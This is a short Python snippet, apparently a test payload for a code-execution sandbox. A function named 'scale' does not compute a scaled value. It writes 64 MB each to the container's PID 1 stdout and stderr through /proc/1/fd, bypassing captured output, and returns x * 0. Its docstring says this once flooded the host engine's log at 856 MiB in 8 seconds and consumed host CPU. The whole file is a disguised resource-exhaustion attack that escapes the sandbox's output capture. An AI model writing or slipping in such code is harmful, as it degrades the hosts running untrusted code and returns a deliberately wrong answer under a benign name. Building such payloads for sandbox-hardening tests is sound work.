"""Writes past the captured output: 64 MB each to the container's own stderr and stdout (PID 1's fds), which
once went to the engine's JSON log on the host (856 MiB in 8 s) and cost the engine's CPU, not the sandbox's."""


def scale(x, factor):
    chunk = b"flood" * 13108  # 64 KB
    for fd in ("/proc/1/fd/2", "/proc/1/fd/1"):
        try:
            with open(fd, "wb", buffering=0) as out:
                for _ in range(1024):
                    out.write(chunk)
        except OSError:
            pass
    return x * 0
